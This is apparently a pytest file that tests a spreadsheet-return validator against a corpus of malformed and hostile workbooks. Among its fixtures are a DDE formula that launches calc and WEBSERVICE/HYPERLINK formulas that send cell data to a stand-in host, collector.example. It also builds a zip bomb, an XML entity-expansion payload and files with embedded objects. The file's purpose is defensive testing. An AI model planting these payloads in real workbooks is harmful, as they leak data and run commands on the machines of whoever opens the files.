"""A corpus of bad returns, made from real packs, collected in one batch.

Each kind gets its expected issue code and no traceback; valid files in the same batch
are still collected; every input is byte-identical afterwards; a second run gives the
same outputs.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from roundtrip_helpers import claim_identity, fill_openpyxl, plan_answers

from sheetflow.collect.run import collect
from sheetflow.packs.generate import generate_packs
from sheetflow.packs.manifest import read_manifest
from sheetflow.spec.templates import init_study
from sheetflow.workbook import layout as L


def _cells(pack, part=None, dimension=None):
    return [a["cell"] for a in L.iter_answer_cells(pack)
            if (part is None or a["part"] == part)
            and (dimension is None or a["dimension"] == dimension)]


def _edit(src: Path, dst: Path, change) -> None:
    wb = openpyxl.load_workbook(src)
    change(wb)
    wb.save(dst)


def _set(cell, value):
    def change(wb):
        wb[L.SCORING_SHEET][cell].value = value
        if isinstance(value, str) and not value.startswith("="):
            wb[L.SCORING_SHEET][cell].data_type = "s"
    return change


def _identity(**values):
    def change(wb):
        claim_identity(wb, values)
    return change


def _strip_identity(wb):
    for key in L.IDENTITY_KEYS:
        del wb.defined_names[L.identity_name(key)]
    wb.custom_doc_props.props = []
    del wb[L.IDENTITY_SHEET]


def _zip_with(src: Path, dst: Path, extra: dict[str, bytes],
              replace: dict[str, bytes] | None = None):
    replace = replace or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
        for name, data in extra.items():
            zout.writestr(name, data)


def _bomb(src, dst):
    head = b'<?xml version="1.0"?><sst xmlns="x"><si><t>'
    strings = head + b"a" * (80 * 2**20) + b"</t></si></sst>"
    _zip_with(src, dst, {"xl/sharedStrings.xml": strings})


def _entities(src, dst):
    doc = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><sst xmlns="x"><si><t>&lol2;</t></si></sst>')
    _zip_with(src, dst, {"xl/sharedStrings.xml": doc})


def _ole(encrypted: bool):
    def make(src, dst):
        body = bytearray(L_OLE_HEADER + b"\x00" * 4096)
        if encrypted:
            body += "EncryptedPackage".encode("utf-16-le") + "EncryptionInfo".encode("utf-16-le")
        dst.write_bytes(bytes(body))
    return make


L_OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _extra_rows(wb):
    ws = wb[L.SCORING_SHEET]
    start = ws.max_row + 10
    for r in range(start, start + 100_000):
        ws.cell(r, 2).value = 1


def _error(cell):
    def change(wb):
        wb[L.SCORING_SHEET][cell].value = "#DIV/0!"
        wb[L.SCORING_SHEET][cell].data_type = "e"
    return change


def _strict(src, dst):
    with zipfile.ZipFile(src) as zin:
        book = zin.read("xl/workbook.xml").replace(
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main")
    _zip_with(src, dst, {}, {"xl/workbook.xml": book})


def _swap_lines(pack):
    first, second = sorted({int(c[1:]) for c in _cells(pack, "value", "depth")})[:2]

    def change(wb):
        ws = wb[L.SCORING_SHEET]
        for col in range(1, 9):
            a, b = ws.cell(first, col), ws.cell(second, col)
            a.value, b.value = b.value, a.value
    return change


def _delete_line(pack):
    row = int(_cells(pack, "value", "depth")[3][1:])
    return lambda wb: wb[L.SCORING_SHEET].delete_rows(row)


def _insert_line(pack):
    row = int(_cells(pack, "value", "depth")[3][1:])
    return lambda wb: wb[L.SCORING_SHEET].insert_rows(row)


def _all(cells, value):
    def change(wb):
        for cell in cells:
            wb[L.SCORING_SHEET][cell].value = value
    return change


def _inconsistent(pack):
    card = pack["cards"][0]
    a, b = card["rows"]

    def change(wb):
        ws = wb[L.SCORING_SHEET]
        for dim in ("depth", "alternatives", "actionability"):
            ws[a["answers"][dim]["cell"]].value = 9
            ws[b["answers"][dim]["cell"]].value = 0
        for dim in ("evidence", "logic"):
            for q in a["answers"][dim]["questions"]:
                ws[q["cell"]].value = "Yes"
            for q in b["answers"][dim]["questions"]:
                ws[q["cell"]].value = "No"
        ws[card["case_answers"]["direction"]["cell"]].value = "B>A"
    return change


def _put(sheet, cell, value):
    """A change writing ``value`` (a formula when it starts "=") into any sheet."""
    def change(wb):
        wb[sheet][cell].value = value
    return change


def _leaky_name(wb):
    wb.defined_names["Leak"] = DefinedName(
        "Leak", attr_text='WEBSERVICE("https://collector.example/?"&Scoring!C13)')


def _leaky_rule(wb):
    rule = FormulaRule(formula=['LEN(WEBSERVICE("https://collector.example/"))>0'])
    wb[L.SCORING_SHEET].conditional_formatting.add("H10", rule)


_RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
         'package/2006/relationships">{}</Relationships>')
_REL = ('<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/{}" Target="{}" TargetMode="External"/>')
_MAIN_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _external_link(src, dst):
    _zip_with(src, dst, {
        "xl/externalLinks/externalLink1.xml":
            f'<?xml version="1.0"?><externalLink {_MAIN_NS}/>'.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": _RELS.format(_REL.format(
            "rId1", "externalLinkPath", "https://collector.example/book.xlsx")).encode()})


def _linked_picture(src, dst):
    """A picture fetched from outside when the file opens, beside a plain hyperlink."""
    rels = _REL.format("rId1", "image", "https://collector.example/pixel.png") + \
        _REL.format("rId2", "hyperlink", "https://example.org/")
    _zip_with(src, dst, {"xl/worksheets/_rels/sheet1.xml.rels": _RELS.format(rels).encode()})


def _part(name, data=b"\x00" * 64):
    return lambda src, dst: _zip_with(src, dst, {name: data})


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("corpus") / "study"
    init_study(root, "paired-rubric")
    generate_packs(root)
    manifest = read_manifest(root / "packs" / "manifest.json")
    packs = {p["rater_id"]: p for p in manifest["packs"]}
    filled = root / "filled"
    filled.mkdir()
    for rater, pack in packs.items():
        fill_openpyxl(root / "packs" / pack["file"], filled / f"{rater}.xlsx", plan_answers(pack))
    p1 = packs["EV-01"]
    count = _cells(p1, "value", "depth")[0]
    direction = _cells(p1, "value", "direction")[0]
    note = _cells(p1, "value", "methodology_note")[0]
    locked = p1["cards"][0]["rows"][0]["locked"][0]["cells"][0]
    kinds = {
        "out-of-domain": (_set(direction, "A>>B"), "value-out-of-domain"),
        "trailing-space": (_set(count, "5 "), "number-stored-as-text"),
        "five-point-zero-text": (_set(count, "5.0"), "number-stored-as-text"),
        "number-as-text": (_set(count, "4"), "number-stored-as-text"),
        "leading-space-word": (_set(count, " five"), "value-not-a-number"),
        "fraction": (_set(count, 5.5), "value-not-whole"),
        "negative": (_set(count, -1), "value-out-of-domain"),
        "formula": (_set(count, "=1+1"), "formula-in-answer"),
        "date": (_set(count, dt.datetime(2026, 1, 5)), "date-in-answer"),
        "bool": (_set(count, True), "bool-in-answer"),
        "label-case": (_set(direction, "a>b "), "label-normalised"),
        "blank-required": (_set(count, None), "answer-missing"),
        "row-deleted": (_delete_line(p1), "row-missing"),
        "row-inserted": (_insert_line(p1), "row-inserted"),
        # one card's first line swapped with the next card's: found by their hidden
        # ids, but the other lines of each card are then not where they are read
        "rows-reordered": (_swap_lines(p1), "answer-line-moved"),
        "locked-edited": (_set(locked, "An edited response."), "locked-text-changed"),
        "sheet-renamed": (lambda wb: setattr(wb[L.SCORING_SHEET], "title", "Scores"),
                          "sheet-renamed"),
        "sheet-removed": (lambda wb: wb.remove(wb[L.SCORING_SHEET]), "sheet-missing"),
        "identity-removed": (_strip_identity, "identity-missing"),
        "wrong-study": (_identity(study_id="another-study"), "wrong-study"),
        "older-spec": (_identity(spec_mark="0" * 64), "spec-hash-mismatch"),
        "unknown-rater": (_identity(rater_id="EV-99", pack_id="EV-99-s1"), "unknown-rater"),
        "identity-conflict": (lambda wb: wb[L.IDENTITY_SHEET].cell(4, 2).__setattr__(
            "value", "EV-02"), "identity-conflict"),
        "far-cell": (lambda wb: wb[L.SCORING_SHEET]["XFD1048576"].__setattr__("value", "x"),
                     "content-outside-window"),
        "extra-rows": (_extra_rows, "content-outside-window"),
        "note-too-short": (_set(note, "Too short."), "text-word-count"),
        "direction-inconsistent": (_inconsistent(p1), "direction-inconsistent"),
        "direction-all-same": (_all(_cells(p1, "value", "direction"), "Tied"),
                               "direction-all-same"),
        "low-confidence": (_all(_cells(p1, "confidence"), "Low"), "confidence-low-share"),
        "underscore-digits": (_set(count, "1_0"), "value-not-a-number"),
        "exponent-text": (_set(count, "1e3"), "value-not-a-number"),
        "huge-number": (_set(count, 1e308), "value-too-large"),
        "error-value": (_error(count), "error-value"),
        "sheet-copied": (lambda wb: wb.copy_worksheet(wb[L.SCORING_SHEET]),
                         "sheet-duplicated"),
        # what a rater adds or changes outside the pack's design, never read
        "notes-sheet-added": (lambda wb: wb.create_sheet("My notes").__setitem__(
            "A1", "case 3 looked odd"), "sheet-added"),
        "instructions-deleted": (lambda wb: wb.remove(wb[L.MORE_SHEET]), "sheet-deleted"),
        "instructions-hidden": (lambda wb: setattr(wb[L.INSTRUCTIONS_SHEET], "sheet_state",
                                                   "hidden"), "sheet-visibility-changed"),
        "comment-on-answer": (lambda wb: setattr(wb[L.SCORING_SHEET][count], "comment",
                                                 Comment("unsure", "rater")),
                              "cell-comment"),
        # what acts when the returned original is opened in Excel, outside answer cells
        "webservice-text-line": (_put(L.SCORING_SHEET, "H10", '=WEBSERVICE('
                                      '"https://collector.example/?"&C13)'),
                                 "formula-reaches-out"),
        "hyperlink-instructions": (_put(L.INSTRUCTIONS_SHEET, "D3", '=HYPERLINK('
                                        '"https://collector.example/?"&Scoring!C13,"help")'),
                                   "formula-reaches-out"),
        "external-ref-hidden-sheet": (_put(L.IDENTITY_SHEET, "F1", "='[other.xlsx]Sheet1'!A1"),
                                      "external-reference"),
        "dde-formula": (_put(L.SCORING_SHEET, "H10", "=cmd|' /c calc'!A0"),
                        "formula-reaches-out"),
        "leaky-name": (_leaky_name, "formula-reaches-out"),
        "leaky-rule": (_leaky_rule, "formula-reaches-out"),
    }
    returns = root / "returns"
    returns.mkdir(exist_ok=True)
    expected = {}
    src = filled / "EV-01.xlsx"
    for name, (change, code) in kinds.items():
        _edit(src, returns / f"{name}.xlsx", change)
        expected[f"{name}.xlsx"] = code
    raw = {
        "zero-bytes": (lambda s, d: d.write_bytes(b""), "empty-file"),
        "csv-renamed": (lambda s, d: d.write_text("case_id,score\nTC-001,5\n"), "not-a-workbook"),
        "truncated": (lambda s, d: d.write_bytes(s.read_bytes()[:3000]), "corrupt-file"),
        "legacy-xls": (_ole(False), "legacy-xls"),
        "encrypted": (_ole(True), "encrypted-workbook"),
        "macros": (lambda s, d: _zip_with(s, d, {"xl/vbaProject.bin": b"\x00" * 64}),
                   "macro-workbook"),
        "ods": (lambda s, d: _zip_with(s, d, {"mimetype":
                                                b"application/vnd.oasis.opendocument.spreadsheet"}),
                "ods-file"),
        "zip-bomb": (_bomb, "zip-bomb"),
        "entities": (_entities, "xml-dtd"),
        "strict": (_strict, "strict-ooxml"),
        "external-link-part": (_external_link, "external-reference"),
        "linked-picture": (_linked_picture, "external-reference"),
        "data-connection": (_part("xl/connections.xml", f'<?xml version="1.0"?><connections '
                                  f'{_MAIN_NS}/>'.encode()), "data-connection"),
        "query-table": (_part("xl/queryTables/queryTable1.xml"), "data-connection"),
        "ole-object": (_part("xl/embeddings/oleObject1.bin"), "embedded-object"),
        "activex": (_part("xl/activeX/activeX1.bin"), "activex-control"),
        "macro-sheet": (_part("xl/macrosheets/sheet1.xml"), "macro-workbook"),
    }
    for name, (make, code) in raw.items():
        suffix = ".xlsm" if name == "macros" else ".xls" if name == "legacy-xls" else ".xlsx"
        make(src, returns / f"{name}{suffix}")
        expected[f"{name}{suffix}"] = code
    # the same rater twice (different bytes), an exact copy, another rater's rows
    _edit(filled / "EV-02.xlsx", returns / "twice-a.xlsx", _set(count, 3))
    _edit(filled / "EV-02.xlsx", returns / "twice-b.xlsx", _set(count, 2))
    expected["twice-a.xlsx"] = expected["twice-b.xlsx"] = "duplicate-rater"
    _edit(filled / "EV-03.xlsx", returns / "other-rows.xlsx",
          _identity(rater_id="EV-01", pack_id="EV-01-s1"))
    expected["other-rows.xlsx"] = "rows-from-other-rater"
    # entries that are not plain files, and names that are not plain text
    (returns / "folder.xlsx").mkdir()
    (returns / "outside-link.xlsx").symlink_to(root.parent / "outside.xlsx")
    shutil.copy(src, root.parent / "outside.xlsx")
    expected["folder.xlsx"] = "not-a-file"
    expected["outside-link.xlsx"] = "symlink-outside-study"
    (returns / os.fsdecode(b"bytes-\xff.xlsx")).write_text("a,b\n1,2\n")
    expected["bytes-\\xff.xlsx"] = "not-a-workbook"
    (returns / "line\nbreak.xlsx").write_text("c,d\n3,4\n")
    expected["line\\x0abreak.xlsx"] = "not-a-workbook"
    shutil.copy(filled / "EV-03.xlsx", returns / "valid-ev03.xlsx")
    shutil.copy(filled / "EV-03.xlsx", returns / "valid-ev03-copy.xlsx")
    expected["valid-ev03.xlsx"] = "duplicate-file"  # the later name is the copy
    before = _snapshot(returns)
    first = collect(root)
    outputs = _outputs(root)
    second = collect(root)
    after = _snapshot(returns)
    return {"root": root, "first": first, "second": second, "expected": expected,
            "before": before, "after": after, "outputs": outputs,
            "outputs2": _outputs(root)}


def _snapshot(folder: Path) -> dict[str, str]:
    """Each entry's bytes digest (a link's target too), or its kind."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else
            f"dir {sorted(x.name for x in p.iterdir())}" for p in folder.iterdir()}


def _outputs(root: Path) -> dict[str, object]:
    book = openpyxl.load_workbook(root / "out" / "validation.xlsx")
    cells = {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book}
    return {"csv": (root / "out" / "ratings.csv").read_bytes(), "xlsx": cells}


CASES = ["out-of-domain", "trailing-space", "five-point-zero-text", "number-as-text",
         "leading-space-word", "fraction", "negative", "formula", "date", "bool",
         "label-case", "blank-required", "row-deleted", "row-inserted", "rows-reordered",
         "locked-edited", "sheet-renamed", "sheet-removed", "identity-removed",
         "wrong-study", "older-spec", "unknown-rater", "identity-conflict", "far-cell",
         "extra-rows", "note-too-short", "direction-inconsistent", "direction-all-same",
         "low-confidence", "zero-bytes", "csv-renamed", "truncated", "legacy-xls",
         "encrypted", "macros", "ods", "zip-bomb", "entities", "twice-a", "twice-b",
         "other-rows", "valid-ev03-copy", "underscore-digits", "exponent-text",
         "huge-number", "error-value", "sheet-copied", "strict", "folder", "outside-link",
         "bytes-\\xff", "line\\x0abreak", "webservice-text-line", "hyperlink-instructions",
         "external-ref-hidden-sheet", "dde-formula", "leaky-name", "leaky-rule",
         "external-link-part", "linked-picture", "data-connection", "query-table",
         "ole-object", "activex", "macro-sheet", "notes-sheet-added", "instructions-deleted",
         "instructions-hidden", "comment-on-answer"]


@pytest.mark.parametrize("kind", CASES)
def test_each_bad_file_gets_its_code(batch, kind):
    expected = batch["expected"]
    name = next(n for n in expected if n.rsplit(".", 1)[0] == kind) if kind != \
        "valid-ev03-copy" else "valid-ev03.xlsx"
    codes = {i.code for i in batch["first"].report.issues if i.file == name}
    assert expected[name] in codes, (name, codes)
    assert not codes & {"unreadable-workbook", "read-aborted"} or \
        expected[name] in ("unreadable-workbook", "read-aborted")


def test_corpus_has_at_least_thirty_kinds(batch):
    assert len(set(batch["expected"])) >= 30


def test_valid_files_are_still_collected(batch):
    used = {f.file for f in batch["first"].report.files if f.used}
    assert "valid-ev03-copy.xlsx" in used
    raters = {r["rater_id"] for r in batch["first"].ratings}
    assert "EV-03" in raters


def test_files_with_errors_contribute_no_ratings(batch):
    result = batch["first"]
    failed = {f.file for f in result.report.files if f.errors}
    assert failed and not failed & {r["file"] for r in result.ratings}


def test_inputs_unchanged_and_second_run_identical(batch):
    assert batch["before"] == batch["after"]
    assert batch["outputs"] == batch["outputs2"]
    assert batch["first"].to_dict() == batch["second"].to_dict()


def test_csv_neutralises_formula_starts(batch):
    text = batch["outputs"]["csv"].decode("utf-8")
    assert '"=' not in text and '"+' not in text and '"@' not in text


def test_moved_rows_are_not_locked_text_edits(batch):
    for name in ("row-inserted.xlsx", "rows-reordered.xlsx"):
        codes = {i.code for i in batch["first"].report.issues if i.file == name}
        assert "locked-text-changed" not in codes, (name, codes)


def test_direction_warning_points_at_the_direction_cell(batch):
    manifest = read_manifest(batch["root"] / "packs" / "manifest.json")
    pack = next(p for p in manifest["packs"] if p["rater_id"] == "EV-01")
    cells = {L.case_name(card): card["case_answers"]["direction"]["cell"]
             for card in pack["cards"]}
    found = [i for i in batch["first"].report.issues
             if i.file == "direction-inconsistent.xlsx" and i.code == "direction-inconsistent"]
    assert found
    for problem in found:
        assert (problem.sheet, problem.cell) == (L.SCORING_SHEET, cells[problem.case])


def test_a_file_whose_answers_were_not_read_is_not_called_complete(batch):
    """The Scoring sheet removed, or lines moved: nothing of the answers is read, and
    the file read "100% complete" (nothing required was found blank). Its completeness
    is unknown (None; "answers not read" on the command's line, blank on the sheets);
    a file whose answers were read keeps its figure."""
    files = {f.file: f for f in batch["first"].report.files}
    for name in ("sheet-removed.xlsx", "rows-reordered.xlsx"):
        assert files[name].pack_id and files[name].percent_complete is None, name
        assert files[name].to_dict()["percent_complete"] is None
    assert files["blank-required.xlsx"].percent_complete < 100
    assert files["valid-ev03-copy.xlsx"].percent_complete == 100
    sheet = batch["outputs"]["xlsx"]["Files"]
    row = next(r for r in sheet if r[0] == "sheet-removed.xlsx")
    assert row[5] is None


ACTS_IN_EXCEL = {  # file -> (sheet, cell, value shown) of what acts when it is opened
    "webservice-text-line.xlsx": (L.SCORING_SHEET, "H10", "=WEBSERVICE("),
    "hyperlink-instructions.xlsx": (L.INSTRUCTIONS_SHEET, "D3", "=HYPERLINK("),
    "external-ref-hidden-sheet.xlsx": (L.IDENTITY_SHEET, "F1", "='[other.xlsx]Sheet1'!A1"),
    "dde-formula.xlsx": (L.SCORING_SHEET, "H10", "=cmd|"),
    "leaky-name.xlsx": ("", "", "=WEBSERVICE("),
    "leaky-rule.xlsx": (L.SCORING_SHEET, "", "=LEN(WEBSERVICE("),
    "external-link-part.xlsx": ("", "", "https://collector.example/book.xlsx"),
    "linked-picture.xlsx": ("", "", "https://collector.example/pixel.png"),
    "data-connection.xlsx": ("", "", "xl/connections.xml"),
    "query-table.xlsx": ("", "", "xl/queryTables/queryTable1.xml"),
    "ole-object.xlsx": ("", "", "xl/embeddings/oleObject1.bin"),
    "activex.xlsx": ("", "", "xl/activeX/activeX1.bin"),
}


def test_what_acts_in_excel_is_named_where_it_is_and_the_file_is_still_checked(batch):
    """A formula calling out, a link to another file, a data connection, an object or
    control, outside the answer cells: named once each, with its sheet and cell (or
    part), as an error that says not to open the file and that a clean copy is needed; the
    file is still identified and its answers read, and its ratings are not used."""
    issues = batch["first"].report.issues
    files = {f.file: f for f in batch["first"].report.files}
    for name, (sheet, cell, shown) in ACTS_IN_EXCEL.items():
        found = [i for i in issues if i.file == name and i.code == batch["expected"][name]]
        assert len(found) == 1, (name, found)
        problem = found[0]
        assert (problem.severity, problem.sheet, problem.cell) == ("error", sheet, cell)
        assert problem.value.startswith(shown), (name, problem.value)
        assert "Do not open this file in Excel" in problem.message
        # words that serve the coordinator and the reply drafted to the rater alike
        assert "a clean copy is needed" in problem.message and problem.rater == "EV-01"
        assert files[name].rater == "EV-01" and files[name].answers_read, name
        assert not files[name].used


def test_a_plain_file_carries_nothing_that_acts_in_excel(batch):
    codes = {"formula-reaches-out", "external-reference", "data-connection",
             "embedded-object", "activex-control"}
    plain = {"valid-ev03.xlsx", "valid-ev03-copy.xlsx", "formula.xlsx", "out-of-domain.xlsx"}
    assert not [i for i in batch["first"].report.issues if i.file in plain and i.code in codes]
